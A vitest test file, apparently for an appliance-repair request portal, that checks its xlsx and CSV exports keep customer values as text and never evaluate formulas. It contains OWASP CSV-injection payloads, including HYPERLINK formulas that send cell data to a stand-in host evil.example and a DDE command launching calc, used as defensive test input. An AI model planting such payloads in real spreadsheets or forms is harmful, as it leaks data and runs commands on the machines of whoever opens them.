/**
 * The export as the desk opens it: in LibreOffice Calc itself (headless, with the options a person
 * gets by default), read back cell by cell with each cell's type; and the workbook's own XML, which
 * is what Excel reads (ECMA-376: a cell of type "s" is text, a cell with <f> runs a formula).
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { XMLParser } from 'fast-xml-parser';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, injectSubmit, injectUpload, png, simpleRequest, type TestServer } from '../../server/helpers';
import { byHeader, openInLibreOffice, type CalcCell } from '../../support/libreoffice';
import { requests, storeEnv } from './run-requests';

let server: TestServer;
let folder: string;
const references: Record<'simple' | 'extended' | 'hostile', string> = {} as never;

/** Numbers as customers type them: a leading zero, a country code with spaces, a serial number of digits only. */
const TYPED = {
  phone_number: '0612345679',
  phone_number2: '+31 6 12345678',
  serial_number: '000123',
  postal_code: '1000',
  country: 'be',
  type: '=A1*2',
  description: 'Lekt water; vooral bij 60 °C.\nDaarna slaat de stroom af.',
};

/** What an attacker types (OWASP CSV-injection payloads): text in every cell, never a formula. */
const HOSTILE = {
  last_name: '=HYPERLINK("http://evil.example/?"&A1)',
  phone_number: "-1+cmd|' /C calc'!A0",
  serial_number: '@SUM(A1)',
  description: '\t+1+HYPERLINK("http://evil.example/?leak="&A1)',
};

async function submitted(brand: string, fields: Record<string, unknown>, locale: 'nl' | 'fr') {
  const [image1, image2] = [await injectUpload(server.app, await png()), await injectUpload(server.app, await png())];
  const res = await injectSubmit(server.app, brand, { ...simpleRequest(image1, image2), ...fields }, { 'x-portal-locale': locale });
  expect(res.statusCode).toBe(201);
  return (res.json() as { reference: string }).reference;
}

beforeAll(async () => {
  server = await buildTestApp();
  references.simple = await submitted('ilve', TYPED, 'fr');
  references.extended = await submitted(
    'teka',
    { ...TYPED, brand: 'Teka', install_date: '2024-04-01', notification: 'dealer@example.com', language: 'fr', isAkkoord: true },
    'fr',
  );
  references.hostile = await submitted('fratelli', { ...HOSTILE, brand: 'Fratelli' }, 'nl');
  folder = mkdtempSync(join(tmpdir(), 'export-sheets-'));
}, 60_000);
afterAll(async () => {
  await server.dispose();
  rmSync(folder, { recursive: true, force: true });
});

async function exported(name: string, ...args: string[]): Promise<string> {
  const file = join(folder, name);
  const run = await requests(['export', '--out', file, ...args], { env: storeEnv(server.config) });
  expect(run, run.stderr).toMatchObject({ code: 0, stdout: '' });
  return file;
}

const rowOf = (rows: Record<string, CalcCell>[], reference: string) => rows.find((r) => Object.values(r)[0].text === reference)!;
const text = (cell: CalcCell) => ({ type: cell.type, text: cell.text });

describe('the export opened in LibreOffice Calc', { timeout: 180_000 }, () => {
  it('--out FILE.xlsx: every number as typed in a text cell, no guard, words where the mail has words, photos by their attachment name', async () => {
    const rows = byHeader(await openInLibreOffice(await exported('aanvragen.xlsx')));
    expect(rows).toHaveLength(3);
    for (const kind of ['simple', 'extended'] as const) {
      const row = rowOf(rows, references[kind]);
      expect(text(row.Telefoon), kind).toEqual({ type: 'string', text: '0612345679' });
      expect(text(row.Mobiel), kind).toEqual({ type: 'string', text: '+31 6 12345678' });
      expect(text(row.Serienummer), kind).toEqual({ type: 'string', text: '000123' });
      expect(text(row.Postcode), kind).toEqual({ type: 'string', text: '1000' });
      expect(text(row.Type), kind).toEqual({ type: 'string', text: '=A1*2' });
      expect(text(row.Klachtomschrijving), kind).toEqual({ type: 'string', text: TYPED.description });
      expect(text(row.Huisnummer), 'a number is a number').toEqual({ type: 'float', text: '12' });
      expect(row.Land.text).toBe('België');
      expect(row['Taal van de pagina'].text).toBe('Frans');
      expect(row.Aankoopdatum.text).toBe('1 maart 2024');
      expect(row['Foto van het typeplaatje'].text).toBe(`${references[kind]}-typeplaatje.png`);
      expect(row['Foto van de aankoopbon'].text).toBe(`${references[kind]}-aankoopbon.png`);
    }
    expect(rowOf(rows, references.simple).Formulier.text).toBe('Eenvoudig formulier');
    const extended = rowOf(rows, references.extended);
    expect(extended.Formulier.text).toBe('Uitgebreid formulier');
    expect(extended['Akkoord met het privacybeleid'].text).toBe('Ja');
    expect(extended['Taal van de klant'].text).toBe('Frans');
    expect(extended.Installatiedatum.text).toBe('1 april 2024');

    const hostile = rowOf(rows, references.hostile);
    expect(text(hostile.Naam)).toEqual({ type: 'string', text: HOSTILE.last_name });
    expect(text(hostile.Telefoon)).toEqual({ type: 'string', text: HOSTILE.phone_number });
    expect(text(hostile.Serienummer)).toEqual({ type: 'string', text: HOSTILE.serial_number });
    expect(text(hostile.Klachtomschrijving)).toEqual({ type: 'string', text: HOSTILE.description });
    for (const row of rows) for (const [header, cell] of Object.entries(row)) expect(cell.formula, header).toBeUndefined();
  });

  it('--language fr: the headers and the words in French', async () => {
    const row = rowOf(byHeader(await openInLibreOffice(await exported('demandes.xlsx', '--language', 'fr'))), references.extended);
    expect(row.Pays.text).toBe('Belgique');
    expect(row.Formulaire.text).toBe('Formulaire complet');
    expect(row['Langue du client'].text).toBe('français');
    expect(row["Photo de la plaque signalétique"].text).toBe(`${references.extended}-plaque-signaletique.png`);
    expect(Object.values(row).filter((cell) => cell.text === 'Oui')).toHaveLength(1);
  });

  it('the CSV: the same words and photo names, formulas never run (what it cannot do is in the README)', async () => {
    const rows = byHeader(await openInLibreOffice(await exported('aanvragen.csv')));
    const row = rowOf(rows, references.extended);
    expect(row.Land.text).toBe('België');
    expect(row.Formulier.text).toBe('Uitgebreid formulier');
    expect(row['Taal van de klant'].text).toBe('Frans');
    expect(row['Akkoord met het privacybeleid'].text).toBe('Ja');
    expect(row['Foto van het typeplaatje'].text).toBe(`${references.extended}-typeplaatje.png`);
    for (const cells of rows) for (const [header, cell] of Object.entries(cells)) expect(cell.formula, header).toBeUndefined();
  });
});

// Each test runs the command in a process of its own: seconds on a busy machine.
describe('the workbook as Excel reads it', { timeout: 60_000 }, () => {
  /** The parts of a workbook Excel reads a cell's type and number format from (ECMA-376 part 1, §18.3.1.4, §18.8). */
  function workbookCells(file: string) {
    const zip = unzipSync(readFileSync(file));
    const xml = (name: string) => new XMLParser({ ignoreAttributes: false, parseTagValue: false, isArray: (tag) => ['row', 'c', 'si', 'xf', 'numFmt'].includes(tag) }).parse(strFromU8(zip[name]));
    type Cell = { '@_r': string; '@_t'?: string; '@_s'?: string; v?: string; f?: unknown };
    const rows = xml('xl/worksheets/sheet1.xml').worksheet.sheetData.row as { c: Cell[] }[];
    const shared = (xml('xl/sharedStrings.xml').sst.si as { t: string | { '#text': string } }[]).map((si) => (typeof si.t === 'object' ? si.t['#text'] : String(si.t)));
    const styles = xml('xl/styles.xml').styleSheet;
    const custom = new Map((styles.numFmts?.numFmt ?? []).map((f: Record<string, string>) => [String(f['@_numFmtId']), f['@_formatCode']]));
    // Excel's built-in format 49 is Text ("@").
    const formatCode = (id: string) => (id === '49' ? '@' : custom.get(id));
    const xfs = (styles.cellXfs.xf as Record<string, string>[]).map((xf) => formatCode(String(xf['@_numFmtId'] ?? '0')));
    return rows.map((row) =>
      row.c.map((c) => ({
        ref: c['@_r'],
        type: c['@_t'],
        formula: c.f,
        format: xfs[Number(c['@_s'] ?? 0)],
        text: c['@_t'] === 's' ? shared[Number(c.v)] : c.v,
      })),
    );
  }

  it('holds every value as a text cell with the Text format, the house number as a number, and no formula', async () => {
    const [header, ...rows] = workbookCells(await exported('voor-excel.xlsx'));
    const houseNumber = header.findIndex((cell) => cell.text === 'Huisnummer');
    expect(houseNumber).toBeGreaterThan(0);
    const column = (ref: string) => ref.replace(/\d+$/, '');
    for (const row of rows) {
      expect(row.length).toBeGreaterThan(15);
      for (const cell of row) {
        expect(cell.formula, cell.ref).toBeUndefined();
        if (column(cell.ref) === column(header[houseNumber].ref)) {
          expect([cell.type, cell.text], 'the house number').toEqual([undefined, '12']);
        } else {
          expect(cell.type, cell.ref).toBe('s');
          expect(cell.format, `${cell.ref} has the Text format`).toBe('@');
        }
      }
    }
    const phones = rows.flatMap((row) => row.filter((cell) => column(cell.ref) === column(header.find((h) => h.text === 'Telefoon')!.ref)));
    expect(phones.map((cell) => cell.text)).toEqual(expect.arrayContaining(['0612345679', HOSTILE.phone_number]));
  });

  it('is written only to a file', async () => {
    const run = await requests(['export', '--format', 'xlsx'], { env: storeEnv(server.config) });
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr.trim().split('\n')).toHaveLength(1);
    expect(run.stderr).toMatch(/xlsx is written to a file: add --out FILE/);
  });
});
